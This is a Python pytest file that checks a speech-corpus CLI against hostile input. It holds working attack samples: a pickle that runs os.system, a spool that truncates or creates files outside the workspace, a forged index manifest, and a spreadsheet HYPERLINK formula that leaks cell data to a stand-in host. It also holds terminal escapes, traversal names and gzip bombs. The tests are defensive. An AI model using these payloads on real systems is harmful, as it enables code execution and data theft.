"""Hostile input must not run code or escape the workspace (issue 9, first items)."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from .conftest import run_cli as run


class _Payload:
    """Pickles as a call to os.system: what a planted index would carry."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


def test_a_planted_pickle_in_a_shared_index_does_not_run(tmp_path, seeds_home):
    import shutil

    from whoosh.filedb.filestore import FileStorage
    from whoosh.index import TOC

    home = tmp_path / "shared-workspace"
    shutil.copytree(seeds_home, home)
    run(home, "index")
    folder = home / "indexes" / "whoosh"
    storage = FileStorage(str(folder))
    gen = TOC._latest_generation(storage, "MAIN")
    toc = TOC.read(storage, "MAIN", gen)
    marker = tmp_path / "pwned"
    toc.schema._fields["body"].analyzer = _Payload(marker)  # what a shared folder could hold
    (folder / f"_MAIN_{gen}.toc").unlink()
    toc.write(storage, "MAIN")
    _forge_manifest(home)
    out = run(home, "search", "营商环境", code=1)
    assert not marker.exists(), "the pickled payload ran"
    assert "refusing to open an index" in out and "posix.system" in out and "Traceback" not in out


class _Spooler:
    """Pickles as speechkit's own spool opened on `target` ("w+b": creates or truncates it),
    a class inside speechkit's package that an unpickler admitting whole packages lets through."""

    def __init__(self, target: Path) -> None:
        self.target = target

    def __reduce__(self):
        from speechkit.index import text

        return (text.Spool, (str(self.target),))


def _forge_manifest(home: Path) -> None:
    """What a planted folder would also carry: a manifest that does not describe whoosh's files
    (an attacker rewrites the digests; an index from before them has none), so the planted
    pickle reaches the unpickler rather than the digest check."""
    import json

    manifest = home / "indexes" / "manifest.json"
    data = json.loads(manifest.read_text("utf-8"))
    data.pop("whoosh", None)
    data.pop("stamps", None)
    manifest.write_text(json.dumps(data), "utf-8")


def _planted_targets(tmp_path: Path) -> tuple[Path, Path]:
    kept = tmp_path / "outside" / "notes.txt"
    kept.parent.mkdir()
    kept.write_text("a researcher's notes", "utf-8")
    return kept, tmp_path / "outside" / "created.txt"


def _assert_refused(home: Path, kept: Path, created: Path) -> None:
    out = run(home, "search", "营商环境", code=1)
    assert "refusing to open an index" in out and "Traceback" not in out, out
    assert len(out.strip().splitlines()) == 1, out
    # explain and kwic read the exact-match index only: they may answer, and must not write
    for args in (("explain", "营商环境"), ("kwic", "营商环境")):
        from click.testing import CliRunner

        from speechkit.cli import cli

        result = CliRunner().invoke(cli, ["--home", str(home), *args])
        assert result.exit_code == 0 or "refusing to open an index" in result.output, result.output
    assert kept.read_text("utf-8") == "a researcher's notes", "a planted index truncated a file"
    assert not created.exists(), "a planted index created a file"


@pytest.mark.parametrize("where", ["schema", "analyzer"])
def test_a_planted_class_with_io_in_the_table_of_contents_is_refused(tmp_path, seeds_home, where):
    import shutil

    from whoosh.filedb.filestore import FileStorage
    from whoosh.index import TOC

    home = tmp_path / "shared-workspace"
    shutil.copytree(seeds_home, home)
    run(home, "index")
    kept, created = _planted_targets(tmp_path)
    folder = home / "indexes" / "whoosh"
    storage = FileStorage(str(folder))
    gen = TOC._latest_generation(storage, "MAIN")
    toc = TOC.read(storage, "MAIN", gen)
    if where == "schema":
        toc.schema._fields["date"].planted = _Spooler(kept)
    else:
        toc.schema._fields["body"].analyzer = _Spooler(created)
    (folder / f"_MAIN_{gen}.toc").unlink()
    toc.write(storage, "MAIN")
    _forge_manifest(home)
    _assert_refused(home, kept, created)


def test_a_planted_class_with_io_in_the_segments_is_refused(tmp_path, seeds_home, monkeypatch):
    """Every posting block and inlined posting list whoosh writes is a pickle: plant the spool
    in each of them (by building with whoosh's pickler replaced) and open the index."""
    import pickle
    import shutil

    from whoosh.codec import whoosh3

    home = tmp_path / "shared-workspace"
    shutil.copytree(seeds_home, home)
    kept, created = _planted_targets(tmp_path)
    monkeypatch.setattr(whoosh3, "dumps", lambda obj, *a: pickle.dumps((_Spooler(kept), _Spooler(created)), 2))
    run(home, "index")
    monkeypatch.undo()
    _assert_refused(home, kept, created)


def test_trusting_admits_a_class_only_inside_its_block():
    import pickle
    from fractions import Fraction

    from speechkit.safe_pickle import UnsafeIndexError, restricted_loads, trusting

    data = pickle.dumps(Fraction(1, 3), 2)
    with pytest.raises(UnsafeIndexError, match=r"fractions\.Fraction"):
        restricted_loads(data)
    with trusting(("fractions", "Fraction")):
        assert restricted_loads(data) == Fraction(1, 3)
    with pytest.raises(UnsafeIndexError):
        restricted_loads(data)
    with pytest.raises(UnsafeIndexError, match=r"posix\.system"):  # what the test above plants
        restricted_loads(pickle.dumps(_Payload(Path("/nonexistent")), 2))


@pytest.mark.parametrize("name", ["/abs/path", "../../x", "a/b", ".hidden", ""])
def test_cluster_names_are_plain_names(seeds_home, name):
    out = run(seeds_home, "cluster", "-k", "2", "--name", name, code=1)
    assert "use letters, digits" in out
    assert "use letters, digits" in run(seeds_home, "cluster", "show", name, code=1)


def test_spreadsheet_formulas_in_scraped_fields_are_neutralised(tmp_path, corpus):
    import csv
    import io
    import json

    text = next((corpus / "speeches").glob("*.txt")).read_text("utf-8-sig")
    evil = '=HYPERLINK("http://example.invalid/?"&A1,"点击")'
    dump = tmp_path / "d.jsonl"
    dump.write_text(json.dumps({"text": text, "title": evil, "url": "@SUM(1+1)"}, ensure_ascii=False) + "\n", "utf-8")
    home = tmp_path / "home"
    run(home, "ingest", str(dump), "--field", "title=title", "--field", "url=url")
    row = next(csv.DictReader(io.StringIO(run(home, "export", "--format", "csv", stdout=True))))
    assert row["title"] == "'" + evil and row["url"] == "'@SUM(1+1)"
    raw = next(csv.DictReader(io.StringIO(run(home, "--raw-csv", "export", "--format", "csv", stdout=True))))
    assert raw["title"] == evil
    assert json.loads(run(home, "export", stdout=True).splitlines()[0])["title"] == evil  # JSON stays raw


def test_terminal_escapes_never_reach_the_text_or_the_terminal(tmp_path, corpus):
    text = next((corpus / "speeches").glob("*.txt")).read_text("utf-8-sig")
    lines = text.split("\n")
    lines[3] = "\x1b]8;;http://example.invalid\x1b\\点此\x1b]8;;\x1b\\\x1b[31m" + lines[3] + "\x1b[0m\x07\x08"
    page = tmp_path / "raw" / "p.txt"
    page.parent.mkdir()
    page.write_text("\n".join(lines), "utf-8")
    out = run(tmp_path, "clean", str(page))
    assert not any(c in out for c in "\x1b\x07\x08\x9b") and "点此" in out
    home = tmp_path / "home"
    run(home, "ingest", str(page.parent))
    import json

    doc = json.loads(run(home, "export", stdout=True).splitlines()[0])
    assert not any(c in doc["text"] or c in (doc["title"] or "") for c in "\x1b\x07\x08")
    shown = run(home, "show", doc["id"], "--original")
    assert "\x1b" not in shown and "\x07" not in shown


ESCAPES = "\x1b]8;;http://example.invalid\x1b\\点此\x1b]8;;\x1b\\\x1b[2J\x1b[31m\u202e\x07\x9b1m"


def _no_controls(out: str) -> None:
    assert not any(c in out for c in "\x1b\x07\x9b\u202e"), repr(out[:300])


def test_escapes_in_crawler_fields_and_front_matter_never_reach_metadata_or_output(tmp_path, corpus):
    import json
    import sqlite3

    seeds = sorted((corpus / "seeds").glob("*.txt"))
    raw = tmp_path / "raw"
    raw.mkdir()
    plain = "区长在全区招商引资暨优化营商环境工作推进大会暨项目集中签约仪式上的讲话"  # longer than the pages' own
    title = ESCAPES + plain
    (raw / "dump.jsonl").write_text(json.dumps(
        {"text": seeds[1].read_text("utf-8-sig"), "title": title, "url": "http://a.invalid/\x1b[2J"},
        ensure_ascii=False) + "\n", "utf-8")
    (raw / "page.md").write_text(f"---\ntitle: {title}\n---\n" + seeds[2].read_text("utf-8-sig"), "utf-8")
    home = tmp_path / "home"
    run(home, "ingest", str(raw), "--field", "title=title", "--field", "url=url")
    docs = [json.loads(line) for line in run(home, "export", "--all", stdout=True).splitlines()]
    assert len(docs) >= 2
    for doc in docs:
        _no_controls(json.dumps([doc[k] for k in ("title", "url", "speaker_name", "site")], ensure_ascii=False))
    assert sum(doc["title"] == "点此" + plain for doc in docs) == 2, [d["title"] for d in docs]
    # a store written before ingest cleaned its fields: nothing printed carries them either
    with sqlite3.connect(home / "corpus" / "speechkit.db") as db:
        db.execute("UPDATE documents SET title = ?, speaker_name = ?", (title, ESCAPES))
    run(home, "index")
    for args in (("show", docs[0]["id"]), ("search", "招商"), ("search", "招商", "--json"),
                 ("kwic", "招商", "--limit", "3"), ("export", "--format", "csv")):
        _no_controls(run(home, *args))


def test_hostile_files_are_skipped_with_a_reason_and_the_rest_lands(tmp_path, corpus):
    """A FIFO, a link to /dev/zero, a dangling link, a gzip bomb, an oversized text and a name
    that is not UTF-8, in one folder with good files: each bad one is reported with its reason,
    every good one lands, and nothing hangs or aborts the batch."""
    import gzip
    import json
    import shutil

    raw = tmp_path / "raw"
    shutil.copytree(corpus / "seeds", raw)
    os.mkfifo(raw / "fifo.txt")
    (raw / "zero.txt").symlink_to("/dev/zero")
    (raw / "dangling.txt").symlink_to(raw / "missing.txt")
    with gzip.open(raw / "bomb.txt.gz", "wb") as fh:  # 40 MB of zeros in about 40 KB
        block = b"\0" * (1 << 20)
        for _ in range(40):
            fh.write(block)
    (tmp_path / "speechkit.cfg").write_text("[speechkit]\nmax_file_mb = 5\n", "utf-8")
    (raw / "big.txt").write_bytes("各位代表：\n".encode() * 600_000)  # 9 MB
    gbk_name = os.fsdecode("领导讲话.txt".encode("gbk"))  # not UTF-8: surrogates in the str
    shutil.copy(next(raw.glob("001_*.txt")), raw / gbk_name)
    out = run(tmp_path, "ingest", str(raw), "--strict", code=1)
    for name, why in (("fifo.txt", "not a regular file"), ("zero.txt", "not a regular file"),
                      ("dangling.txt", "broken link"), ("bomb.txt.gz", "more than 5 MB decompressed"),
                      ("big.txt", "more than 5 MB")):
        assert any(name in line and why in line for line in out.splitlines()), (name, out)
    docs = [json.loads(line) for line in run(tmp_path, "export", "--all", stdout=True).splitlines()]
    paths = {d["source_path"] for d in docs}
    assert len([p for p in paths if p.endswith(".txt") and "/seeds" not in p]) >= 6  # 5 seeds + the GBK name
    assert any(p.startswith("bytes:") for p in paths)
    # a rerun and a prune keep the oddly named file: its stored name maps back to the file
    out = run(tmp_path, "ingest", str(raw), "--prune")
    assert "0 pruned" in out


# the most memory any one process of an ingest may use on the hostile batch below (measured 217
# MB on this machine); a gzip bomb alone grew past 4 GB before issue 9
PEAK_MB = 512


def test_a_hostile_batch_lands_its_good_files_within_a_memory_bound(tmp_path, corpus):
    """Every kind of hostile input at once, ingested by worker processes as a user would run
    it: each bad item is skipped or neutralised with a one-line reason, every good file lands,
    and no process grows past PEAK_MB."""
    import csv
    import gzip
    import json
    import shutil
    import subprocess
    import sys

    raw = tmp_path / "raw"
    shutil.copytree(corpus / "seeds", raw)
    good = len(list(raw.glob("*.txt")))
    os.mkfifo(raw / "fifo.txt")
    (raw / "zero.txt").symlink_to("/dev/zero")
    (raw / "dangling.txt").symlink_to(raw / "missing.txt")
    (raw / "loop-a.txt").symlink_to(raw / "loop-b.txt")
    (raw / "loop-b.txt").symlink_to(raw / "loop-a.txt")
    (raw / "sub").mkdir()
    (raw / "sub" / "up").symlink_to(raw)  # a folder loop
    with gzip.open(raw / "bomb.txt.gz", "wb", compresslevel=9) as fh:  # 300 MB of zeros, 300 KB
        block = b"\0" * (1 << 20)
        for _ in range(300):
            fh.write(block)
    speech = next(raw.glob("001_*.txt")).read_text("utf-8")
    with open(raw / "dump.csv", "w", newline="", encoding="utf-8") as fh:  # a 600,000-character cell
        w = csv.writer(fh)
        w.writerow(["title", "content"])
        w.writerow(["=HYPERLINK(\"http://example.com/\"&A1,\"点击\")", (speech + "\n") * (600_000 // len(speech))])
    (raw / "escapes.txt").write_text("\x1b]8;;http://example.com\x07链接\x1b]8;;\x07\n" + speech, "utf-8")
    shutil.copy(next(raw.glob("002_*.txt")), raw / os.fsdecode("讲话稿.txt".encode("gbk")))
    home = tmp_path / "home"
    home.mkdir()
    (home / "speechkit.cfg").write_text("[speechkit]\nmax_file_mb = 50\n", "utf-8")
    # run through a wrapper whose only children are the ingest and its workers: the largest
    # resident size among them is then the ingest's own
    wrapper = ("import resource, subprocess, sys; p = subprocess.run(sys.argv[1:]); "
               "sys.stderr.write(f'PEAK_KB={resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss}\\n'); "
               "sys.exit(p.returncode)")
    proc = subprocess.run([sys.executable, "-c", wrapper, sys.executable, "-m", "speechkit", "--home", str(home),
                           "ingest", str(raw), "--workers", "2", "--field", "text=content", "--field", "title=title"],
                          capture_output=True, text=True, timeout=300)
    peak_mb = int(proc.stderr.rsplit("PEAK_KB=", 1)[1].split()[0]) / 1024
    out = proc.stdout + proc.stderr
    assert proc.returncode == 0 and "Traceback" not in out, out
    for name, why in (("fifo.txt", "not a regular file"), ("zero.txt", "not a regular file"),
                      ("dangling.txt", "broken link"), ("loop-a.txt", "loop of symbolic links"),
                      ("sub/up", "link to a folder"), ("bomb.txt.gz", "more than 50 MB decompressed")):
        lines = [x for x in out.splitlines() if name in x and why in x]
        assert len(lines) == 1, (name, out)
    # all good files land: the seeds, the huge cell, the file with escapes, the GBK name
    export = subprocess.run([sys.executable, "-m", "speechkit", "--home", str(home), "export", "--all",
                             "--format", "csv"], capture_output=True, text=True, timeout=120)
    rows = list(csv.DictReader(export.stdout.splitlines()))
    paths = {r["source_path"] for r in rows}
    assert sum(1 for p in paths if p.endswith(".txt")) == good + 2
    assert any(p.endswith("dump.csv") for p in paths)
    texts = subprocess.run([sys.executable, "-m", "speechkit", "--home", str(home), "export", "--all"],
                           capture_output=True, text=True, timeout=120).stdout
    assert "\x1b" not in texts and "\x07" not in texts
    formula = next(r for r in rows if r["source_path"].endswith("dump.csv"))["title"]
    assert formula.startswith("'="), formula
    assert json.loads(texts.splitlines()[0])  # the JSON export stays raw and parseable
    print(f"peak resident size of any ingest process: {peak_mb:.0f} MB (bound {PEAK_MB} MB)")
    assert peak_mb < PEAK_MB, f"peak {peak_mb:.0f} MB"
